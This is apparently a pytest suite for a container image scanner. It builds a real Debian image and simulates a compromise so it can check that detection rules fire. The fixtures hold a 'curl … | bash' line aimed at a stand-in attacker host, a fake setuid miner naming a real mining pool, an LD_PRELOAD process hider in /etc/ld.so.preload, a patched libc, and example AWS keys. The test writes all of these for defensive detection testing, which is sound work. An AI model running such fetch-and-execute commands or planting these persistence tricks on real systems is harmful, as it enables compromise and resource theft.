"""False positives and the DESIGN §1 incident on a real Debian image, built with real tools.

- A Debian bookworm minbase root filesystem from ``mmdebstrap`` (it reaches the Debian mirror; ~20-40 s),
  cached under ``~/.cache/lowerdir-tests/`` (or ``$LOWERDIR_TEST_CACHE``) by variant and date, so the
  suite pays for it once a day. Skipped, with the reason, without mmdebstrap, root or the mirror.
- **Clean**: imported with ``buildah`` (vfs storage, chroot isolation, private root/runroot), an app layer
  (a user made by ``buildah run useradd``, an app script) and ``USER 10001``. It must come out with
  nothing high or critical: package-owned setuid binaries are info.
- **Incident** on the same base, replaying DESIGN §1 with buildah (mount, edit, commit with the history
  line the attacker's step would leave): ``curl … | bash`` writes a setuid miner to
  ``/usr/bin/.hidden_miner`` and AWS credentials; the next layer deletes both (whiteouts) and patches the
  real ``libc.so.6``; the next adds an LD_PRELOAD process hider and ``/etc/ld.so.preload``; the config
  sets ``LD_PRELOAD``, the AWS documentation example keys and a database password, runs as root, and is
  tagged ``:latest``. Every rule must fire with the right layer and path.
"""

from __future__ import annotations

import datetime as dt
import os
import shutil
import subprocess
from collections import Counter
from dataclasses import dataclass
from pathlib import Path

import pytest

from scanner.engine import ScanOptions, scan
from scanner.engine.model import ImageResult, Severity
from tests.realtools.conftest import Tools

from .helpers import AWS_KEY_ID, AWS_SECRET

pytestmark = [pytest.mark.tools, pytest.mark.timeout(900)]

SUITE, VARIANT, MIRROR = "bookworm", "minbase", "http://deb.debian.org/debian"
LIBC = "/usr/lib/x86_64-linux-gnu/libc.so.6"
HIDER = "/usr/lib/x86_64-linux-gnu/libprocesshider.so"
MINER = "/usr/bin/.hidden_miner"
PIPE = "/bin/sh -c curl -fsSL https://get.evil.example/install.sh | bash"
DB_PASSWORD = "Tr0ub4dor&3-prod"


def _cache_dir() -> Path:
    return Path(os.environ.get("LOWERDIR_TEST_CACHE") or Path.home() / ".cache" / "lowerdir-tests")


def _skip_reason() -> str:
    missing = [t for t in ("mmdebstrap", "buildah", "skopeo") if shutil.which(t) is None]
    if missing:
        return f"needs {', '.join(missing)} (apt-get install mmdebstrap buildah skopeo)"
    if os.geteuid() != 0:
        return "needs root (mmdebstrap --mode=root, buildah mount with vfs storage)"
    return ""


@pytest.fixture(scope="session")
def rootfs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Debian bookworm minbase as a tar, built today or taken from the cache."""
    if reason := _skip_reason():
        pytest.skip(reason)
    cache = _cache_dir()
    cache.mkdir(parents=True, exist_ok=True)
    stamp = dt.date.today().strftime("%Y%m%d")
    target = cache / f"debian-{SUITE}-{VARIANT}-{stamp}.tar"
    if target.exists():
        return target
    partial = cache / f"{target.stem}.partial-{os.getpid()}.tar"  # mmdebstrap picks the format by extension
    cmd = [
        "mmdebstrap",
        f"--variant={VARIANT}",
        "--mode=root",
        "--skip=output/dev",
        "--quiet",
        SUITE,
        str(partial),
        MIRROR,
    ]
    try:
        proc = subprocess.run(cmd, capture_output=True, text=True, timeout=600, check=False)
    except subprocess.TimeoutExpired:
        partial.unlink(missing_ok=True)
        pytest.skip("mmdebstrap did not finish in 10 minutes (is the Debian mirror reachable?)")
    if proc.returncode != 0 or not partial.is_file():
        shutil.rmtree(partial, ignore_errors=True) if partial.is_dir() else partial.unlink(missing_ok=True)
        pytest.skip(f"mmdebstrap failed (is the Debian mirror reachable?): {proc.stderr.strip()[-300:]}")
    partial.rename(target)
    for old in cache.glob(f"debian-{SUITE}-{VARIANT}-*.tar"):  # keep only today's
        if old != target:
            old.unlink(missing_ok=True)
    return target


@dataclass
class Built:
    clean: Path
    incident: Path
    libc_original: bytes


def _commit(tools: Tools, ctr: str, tag: str, created_by: str, *config: str) -> None:
    tools.buildah("config", "--created-by", created_by, *config, ctr)
    tools.buildah("commit", "--signature-policy", str(tools.policy), "--rm", ctr, tag)


@pytest.fixture(scope="session")
def debian_images(rootfs: Path, tmp_path_factory: pytest.TempPathFactory) -> Built:
    base_dir = tmp_path_factory.mktemp("debian")
    tools = Tools(base_dir)
    out = base_dir / "out"
    out.mkdir()
    pol = ("--signature-policy", str(tools.policy))
    try:
        # layer 0: the root filesystem, as `FROM scratch` + `ADD rootfs.tar /` would make it
        ctr = tools.buildah("from", *pol, "scratch")
        tools.buildah("add", ctr, str(rootfs), "/")
        _commit(
            tools,
            ctr,
            "localhost/lowerdir-debian:base",
            "/bin/sh -c #(nop) ADD file:rootfs.tar in / ",
            "--os",
            "linux",
            "--arch",
            "amd64",
            "--env",
            "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
            "--cmd",
            "bash",
        )

        # clean: an app layer made the ordinary way, USER 10001
        ctr = tools.buildah("from", *pol, "localhost/lowerdir-debian:base")
        tools.buildah(
            "run",
            "--isolation",
            "chroot",
            ctr,
            "--",
            "useradd",
            "--uid",
            "10001",
            "--create-home",
            "--shell",
            "/usr/sbin/nologin",
            "app",
        )
        mnt = Path(tools.buildah("mount", ctr))
        (mnt / "app").mkdir(mode=0o755)
        (mnt / "app/server.sh").write_text("#!/bin/sh\nset -eu\nexec sleep infinity\n")
        (mnt / "app/server.sh").chmod(0o755)
        (mnt / "app/config.ini").write_text("[server]\nport = 8080\nlog_level = info\n")
        (mnt / "usr/local/bin/healthcheck").write_text("#!/bin/sh\ntest -f /app/server.sh\n")
        (mnt / "usr/local/bin/healthcheck").chmod(0o755)
        tools.buildah("umount", ctr)
        _commit(
            tools,
            ctr,
            "localhost/lowerdir-clean:1.0",
            "/bin/sh -c useradd --uid 10001 --create-home app && install -m 755 server.sh /app/",
            "--user",
            "10001",
            "--workingdir",
            "/app",
            "--cmd",
            "/app/server.sh",
        )
        clean = out / "clean.oci.tar"
        tools.skopeo_copy(
            f"{tools.store}localhost/lowerdir-clean:1.0", f"oci-archive:{clean}:lowerdir-clean:1.0"
        )

        # incident, layer 1: `curl … | bash` drops a setuid miner and credentials
        ctr = tools.buildah("from", *pol, "localhost/lowerdir-debian:base")
        mnt = Path(tools.buildah("mount", ctr))
        miner = (
            b"\x7fELF\x02\x01\x01\x00" + bytes(8) + os.urandom(4096) + b"\x00XMRig 6.21.0\x00"
            b"--donate-level=1\x00stratum+tcp://pool.supportxmr.com:3333\x00cryptonight\x00"
            + os.urandom(2048)
        )
        (mnt / MINER.lstrip("/")).write_bytes(miner)
        (mnt / MINER.lstrip("/")).chmod(0o4755)
        (mnt / "root/.aws").mkdir(parents=True, exist_ok=True)
        (mnt / "root/.aws/credentials").write_text(
            f"[default]\naws_access_key_id = {AWS_KEY_ID}\naws_secret_access_key = {AWS_SECRET}\n"
        )
        tools.buildah("umount", ctr)
        _commit(tools, ctr, "localhost/lowerdir-incident:1", PIPE)

        # layer 2: "delete" them (whiteouts) and patch the real libc.so.6
        ctr = tools.buildah("from", *pol, "localhost/lowerdir-incident:1")
        mnt = Path(tools.buildah("mount", ctr))
        (mnt / MINER.lstrip("/")).unlink()
        (mnt / "root/.aws/credentials").unlink()
        libc_path = mnt / LIBC.lstrip("/")
        original = libc_path.read_bytes()
        patched = bytearray(original)
        patched[len(patched) // 2 : len(patched) // 2 + 16] = b"\x90" * 16  # a hook, in the middle of .text
        libc_path.write_bytes(bytes(patched))
        tools.buildah("umount", ctr)
        _commit(
            tools,
            ctr,
            "localhost/lowerdir-incident:2",
            "/bin/sh -c rm -f /usr/bin/.hidden_miner /root/.aws/credentials && apt-get clean",
        )

        # layer 3: an LD_PRELOAD process hider, loaded system-wide; the config of DESIGN §1
        ctr = tools.buildah("from", *pol, "localhost/lowerdir-incident:2")
        mnt = Path(tools.buildah("mount", ctr))
        hider = (
            b"\x7fELF\x02\x01\x01\x00" + bytes(8) + os.urandom(2048) + b"\x00readdir\x00dlsym\x00"
            b"process_to_filter\x00/proc/self/fd/%d\x00/proc/%s/stat\x00"
        )
        (mnt / HIDER.lstrip("/")).write_bytes(hider)
        (mnt / HIDER.lstrip("/")).chmod(0o755)
        (mnt / "etc/ld.so.preload").write_text(HIDER + "\n")
        tools.buildah("umount", ctr)
        _commit(
            tools,
            ctr,
            "localhost/victim/app:latest",
            "/bin/sh -c /tmp/stage2.sh",
            "--user",
            "root",
            "--env",
            f"LD_PRELOAD={HIDER}",
            "--env",
            f"AWS_ACCESS_KEY_ID={AWS_KEY_ID}",
            "--env",
            f"AWS_SECRET_ACCESS_KEY={AWS_SECRET}",
            "--env",
            f"DB_PASSWORD={DB_PASSWORD}",
        )
        incident = out / "incident.docker.tar"
        tools.skopeo_copy(
            f"{tools.store}localhost/victim/app:latest",
            f"docker-archive:{incident}:localhost/victim/app:latest",
        )
    finally:
        shutil.rmtree(tools.root.parent, ignore_errors=True)  # the vfs store holds full copies
    return Built(clean, incident, original)


def _summary(image: ImageResult) -> str:
    return "\n".join(
        f"{f.severity:8} {f.rule_id:24} {f.layer_index} {f.path} {f.detail[:140]}"
        for f in sorted(image.findings, key=lambda f: -f.severity.rank)
    )


def test_clean_debian_image_has_nothing_high_or_critical(debian_images: Built) -> None:
    [image] = scan(str(debian_images.clean)).images
    serious = [f for f in image.findings if f.severity.rank >= Severity.HIGH.rank]
    assert not serious, _summary(image)
    counts = Counter((f.rule_id, str(f.severity)) for f in image.findings)
    print("\n" + "\n".join(f"{n:4} {rule} {sev}" for (rule, sev), n in sorted(counts.items())))
    setuid = [f for f in image.findings if f.rule_id == "file.setuid"]
    assert {f.path for f in setuid} >= {"/usr/bin/passwd", "/usr/bin/su", "/usr/bin/mount"}
    assert all(f.severity is Severity.INFO and "owns it with a matching checksum" in f.detail for f in setuid)
    assert not [f for f in image.findings if f.rule_id.startswith(("package.", "malware.", "history."))], (
        _summary(image)
    )
    assert image.user == "10001" and not [f for f in image.findings if f.rule_id == "config.user-root"]
    assert len(image.packages) > 80 and image.distro.get("VERSION_ID") == "12"
    assert {p.name for p in image.packages} >= {"libc6", "bash", "coreutils", "dpkg", "passwd"}


@pytest.mark.parametrize("jobs", [1, 2])
def test_incident_lights_up_every_rule(debian_images: Built, jobs: int) -> None:
    [image] = scan(str(debian_images.incident), options=ScanOptions(jobs=jobs)).images
    print("\n" + _summary(image))
    got = {(f.rule_id, f.layer_index, f.path): f for f in image.findings}

    def finding(rule_id: str, layer: int | None, path: str = "") -> object:
        assert (rule_id, layer, path) in got, f"{rule_id} at layer {layer} {path}\n{_summary(image)}"
        return got[(rule_id, layer, path)]

    assert finding("history.pipe-to-shell", 1).severity is Severity.HIGH
    miner_setuid = finding("file.setuid", 1, MINER)
    assert miner_setuid.severity is Severity.HIGH and miner_setuid.hidden_layer_index == 2
    assert finding("file.hidden-executable", 1, MINER).severity is Severity.HIGH
    assert finding("malware.yara", 1, MINER).severity is Severity.CRITICAL
    grave = finding("layer.deleted-file", 1, MINER)
    assert grave.severity is Severity.HIGH and grave.hidden_layer_index == 2
    assert {got[("malware.yara", 1, MINER)].fingerprint, miner_setuid.fingerprint} <= set(grave.related)
    secret = [f for f in image.findings if f.rule_id == "secret.file" and f.path == "/root/.aws/credentials"]
    assert secret and all(f.layer_index == 1 and f.hidden_layer_index == 2 for f in secret)
    assert finding("layer.deleted-file", 1, "/root/.aws/credentials").severity is Severity.HIGH
    libc = finding("package.modified-file", 2, LIBC)
    assert libc.severity is Severity.CRITICAL and "libc6" in libc.detail
    assert finding("file.ld-so-preload", 3, "/etc/ld.so.preload").severity is Severity.CRITICAL
    assert HIDER in got[("file.ld-so-preload", 3, "/etc/ld.so.preload")].detail
    assert finding("malware.yara", 3, HIDER).severity is Severity.CRITICAL
    assert finding("package.unowned-binary", 3, HIDER).severity is Severity.MEDIUM
    assert finding("config.ld-preload", None).severity is Severity.HIGH
    assert finding("config.user-root", None).severity is Severity.MEDIUM
    tag = finding("reference.mutable-tag", None)
    assert tag.severity is Severity.MEDIUM and "latest" in tag.detail
    env_secrets = [f for f in image.findings if f.rule_id == "secret.env" and f.layer_index is None]
    assert {f.excerpt.split("…")[0] for f in env_secrets} >= {"AKIA", "wJal"}
    assert any("DB_PASSWORD" in f.detail for f in env_secrets)
    for f in image.findings:
        assert AWS_SECRET not in f.detail + f.excerpt and DB_PASSWORD not in f.detail + f.excerpt
    # nothing the clean base would not have: integrity is intact and the base's setuid files are info
    assert not [
        f for f in image.findings if f.rule_id in ("integrity.digest-mismatch", "integrity.corrupt-layer")
    ]
    assert all(
        f.severity is Severity.INFO
        for f in image.findings
        if f.rule_id == "file.setuid" and f.layer_index == 0
    )
